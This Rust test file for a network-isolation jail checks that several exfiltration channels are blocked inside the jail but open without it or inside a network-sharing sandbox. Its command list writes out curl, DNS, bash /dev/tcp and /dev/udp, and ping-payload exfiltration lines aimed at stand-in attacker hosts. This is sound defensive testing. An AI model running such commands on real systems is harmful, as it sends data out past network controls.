//! The tests can fail: what the jail stops is seen by the attacker without it, and from a sandbox that shares
//! the network.

use std::time::Duration;

use crate::jail::Jail;
use crate::outcome::Outcome;
use crate::suite::{Mode, Suite, both, once};
use crate::wait::poll_for;
use crate::world::World;

const SOON: Duration = Duration::from_secs(2);
const SANDBOX: [&str; 7] = ["bwrap", "--dev-bind", "/", "/", "--unshare-pid", "--proc", "/proc"];

/// Ways out, each with the bytes that tell that it was open.
const WAYS: [(&str, &str); 6] = [
    ("curl -sk --max-time 20 https://https.evil.test/", "https.evil.test"),
    ("curl -s --max-time 20 http://evil.test/plain", "/plain"),
    ("dig +time=5 +tries=3 label.evil.test", "label"),
    ("dig +tcp +time=5 +tries=3 tcp-label.evil.test @198.51.100.53", "tcp-label"),
    ("bash -c 'echo literal >/dev/tcp/198.51.100.66/4444'", "literal"),
    ("bash -c 'echo datagram >/dev/udp/198.51.100.66/4445'", "datagram"),
];

pub(crate) fn add(suite: &mut Suite) {
    both!(suite, nothing_stops_them, a_sandbox_with_the_network_does_not, the_jail_does);
    once!(suite, pings_get_out_without_a_jail);
}

/// Whether the bytes left the host, in this case or another.
fn got_out(world: &World, token: &str) -> bool {
    poll_for(SOON, || world.wire().saw_bytes_of_any_case(token.as_bytes()).then_some(())).is_some()
}

#[track_caller]
fn assert_open(mode: Mode, run: impl Fn(&Jail<'_>, &str) -> Outcome) {
    let world = World::new();
    let direct = Jail::direct(&world, mode);
    for (command, token) in WAYS {
        let outcome = run(&direct, command);
        assert!(got_out(&world, token), "{outcome}");
    }
    assert!(!world.attacker_saw().is_empty());
    world.assert_nothing_left();
}

fn nothing_stops_them(mode: Mode) {
    assert_open(mode, |jail, command| jail.shell(command));
}

fn a_sandbox_with_the_network_does_not(mode: Mode) {
    assert_open(mode, |jail, command| jail.run([&SANDBOX[..], &["sh", "-c", command]].concat()));
}

fn the_jail_does(mode: Mode) {
    let world = World::new();
    let jail = Jail::new(&world, mode).allow("good.test");
    for (command, _) in WAYS {
        assert!(!jail.shell(command).denied().is_empty(), "{command}");
    }
    for (_, token) in WAYS {
        assert!(!world.wire().saw_bytes_of_any_case(token.as_bytes()), "{token}");
    }
    world.assert_attacker_saw_nothing();
}

fn pings_get_out_without_a_jail() {
    let world = World::new();
    let ping = ["ping", "-c", "1", "-W", "1", "-p", "736563726574", "198.51.100.66"];
    Jail::new(&world, Mode::Root).run(ping);
    assert!(!world.wire().saw_bytes(b"secret"));
    Jail::direct(&world, Mode::Root).run(ping);
    assert!(got_out(&world, "secret"));
}
